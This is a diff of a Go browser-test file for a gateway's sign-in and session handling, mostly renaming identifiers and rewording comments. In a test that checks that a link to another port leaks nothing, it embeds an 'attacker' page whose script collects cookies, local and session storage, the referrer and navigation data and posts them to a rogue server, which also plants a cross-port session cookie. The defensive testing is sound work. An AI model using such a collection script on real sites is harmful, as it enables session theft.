@@ -23,22 +23,22 @@ import (
 	"parley/gateway/ws"
 )
 
-// thief is a guest's own server on another port of the host, which keeps all that it is sent, and tries what it can get
-// of a browser that has come.
-type thief struct {
+// attackerServer is a server on another port of the host. It records all requests, and its page sends back all that a
+// browser reveals about the session.
+type attackerServer struct {
 	mu   sync.Mutex
 	got  []string // every header and address
 	urls []string
 }
 
-// thiefPage tells the server what a page can find out about where its reader came from.
-const thiefPage = `<!doctype html><title>A thief</title><script>
+// attackerPage sends the server everything that a script can read about the page before it.
+const attackerPage = `<!doctype html><title>Attacker</title><script>
 const found = [document.referrer, String(opener), document.cookie, name, JSON.stringify(localStorage), JSON.stringify(sessionStorage), String(history.length),
   ...performance.getEntriesByType('navigation').map((e) => JSON.stringify(e)), String(globalThis.navigation?.activation?.from?.url)];
 fetch('/found', { method: 'POST', body: found.join('\n') }).then(() => { document.documentElement.dataset.done = 'yes' });
 </script>`
 
-func (f *thief) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+func (f *attackerServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	body, err := io.ReadAll(io.LimitReader(r.Body, 1<<20))
 	if err != nil {
 		return
@@ -50,11 +50,11 @@ func (f *thief) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	f.urls = append(f.urls, r.URL.Path)
 	f.mu.Unlock()
 	w.Header().Set("Content-Type", "text/html")
-	w.Header().Set("Set-Cookie", SessionCookie+"=of-the-thief; Path=/") // a port may set them for all
-	_, _ = io.WriteString(w, thiefPage)                                 // who has gone away does not miss it
+	w.Header().Set("Set-Cookie", SessionCookie+"=of-the-attacker; Path=/") // cookies of one port reach all ports
+	_, _ = io.WriteString(w, attackerPage)                                 // the client may have gone away
 }
 
-func (f *thief) all() string {
+func (f *attackerServer) all() string {
 	f.mu.Lock()
 	defer f.mu.Unlock()
 	return strings.Join(f.got, "\n")
@@ -63,7 +63,7 @@ func (f *thief) all() string {
 // TestALinkToAnotherPortGivesNothingAway has the host, who is signed in, follow a link in a guest's form to a server of
 // the guest's on another port. What that is sent gets it nowhere.
 func TestALinkToAnotherPortGivesNothingAway(t *testing.T) {
-	h := openParlour(t)
+	h := openPageServer(t)
 	_, port, _ := strings.Cut(h.server.Address(), ":")
 	link := func() string {
 		code, err := h.server.backend.NewLink(h.node.Host())
@@ -72,7 +72,7 @@ func TestALinkToAnotherPortGivesNothingAway(t *testing.T) {
 		}
 		return "http://127.0.0.1:" + port + web.SignInPath + "?code=" + code
 	}
-	robber := &thief{}
+	robber := &attackerServer{}
 	other := httptest.NewServer(robber)
 	t.Cleanup(func() { other.CloseClientConnections(); other.Close() })
 	_, its, _ := strings.Cut(strings.TrimPrefix(other.URL, "http://"), ":")
@@ -105,7 +105,7 @@ func TestALinkToAnotherPortGivesNothingAway(t *testing.T) {
 		}
 	}
 	b.do(chromedp.Navigate(home), chromedp.WaitReady("html[data-live]")) // and its cookie keeps nobody out
-	b.isFine()
+	b.checkNoFaults()
 
 	// If it had one half all the same, by whatever means, that would be of no use.
 	for what, try := range map[string]replay{
@@ -134,8 +134,8 @@ func TestALinkToAnotherPortGivesNothingAway(t *testing.T) {
 	}
 }
 
-// sessionOf gives the two halves of a tab's session.
-func (h *parlour) sessionOf(b *tab) (cookie, key string) {
+// sessionOf returns the cookie and the key of a tab's session.
+func (h *pageServer) sessionOf(b *tab) (cookie, key string) {
 	h.t.Helper()
 	_, behind, _ := strings.Cut(b.text(`location.pathname`), web.SessionsPath)
 	key, _, _ = strings.Cut(behind, "/")
@@ -152,7 +152,7 @@ func (h *parlour) sessionOf(b *tab) (cookie, key string) {
 	return "", ""
 }
 
-// replay is what somebody shows who is no browser, and so says of itself what it likes.
+// replay has the credentials of a client that is no browser and may send any header.
 type replay struct{ cookie, bearer, protocol, query, at string }
 
 type replayed struct {
@@ -160,7 +160,7 @@ type replayed struct {
 	status int
 }
 
-// everywhere shows it at every kind of place.
+// everywhere sends the credentials to every kind of address.
 func (p replay) everywhere(t *testing.T, address string) (all []replayed) {
 	t.Helper()
 	for _, what := range []string{
@@ -205,7 +205,7 @@ func (p replay) everywhere(t *testing.T, address string) (all []replayed) {
 
 // TestABrowserThatIsSignedInFollowsPlainLinks: an agent's program knows the address of a form, and not of the session.
 func TestABrowserThatIsSignedInFollowsPlainLinks(t *testing.T) {
-	h := openParlour(t)
+	h := openPageServer(t)
 	asked := h.ask(actors.Ask{Description: "Which port?", Fields: []events.Field{{Name: "a"}}})
 	b := h.openBrowser()
 	b.open("/agents")
@@ -220,12 +220,12 @@ func TestABrowserThatIsSignedInFollowsPlainLinks(t *testing.T) {
 		b.do(chromedp.Navigate("http://" + h.server.Address() + "/questions"))
 		b.reads("main code", "parley open")
 	}
-	b.isFine()
+	b.checkNoFaults()
 }
 
 // TestSigningOutEndsWhatIsOpen: the page, its stream and the connections of its session end at once, in every tab.
 func TestSigningOutEndsWhatIsOpen(t *testing.T) {
-	h := openParlour(t)
+	h := openPageServer(t)
 	b := h.openBrowser()
 	b.open("/")
 	b.live()
@@ -252,7 +252,7 @@ func TestSigningOutEndsWhatIsOpen(t *testing.T) {
 	second.do(chromedp.WaitReady("main:not(:has(button)) code"))
 	b.reads("#connection", "Signed out")
 	k := &wsClient{t, own}
-	if got := k.end(); got != websocket.StatusPolicyViolation {
+	if got := k.closeStatus(); got != websocket.StatusPolicyViolation {
 		t.Errorf("its connection ends with %v", got)
 	}
 	signedIn := func() int {
@@ -277,11 +277,11 @@ func TestSigningOutEndsWhatIsOpen(t *testing.T) {
 	last.do(chromedp.Navigate(h.url + web.SignOutPath))
 	last.click("button[name=everywhere]")
 	last.do(chromedp.WaitReady("main:not(:has(button)) code"))
-	if got := (&wsClient{t, others}).end(); got != websocket.StatusPolicyViolation {
+	if got := (&wsClient{t, others}).closeStatus(); got != websocket.StatusPolicyViolation {
 		t.Errorf("the other's connection ends with %v", got)
 	}
 	if got := signedIn(); got != 0 {
 		t.Errorf("%d sessions are left", got)
 	}
-	last.isFine()
+	last.checkNoFaults()
 }
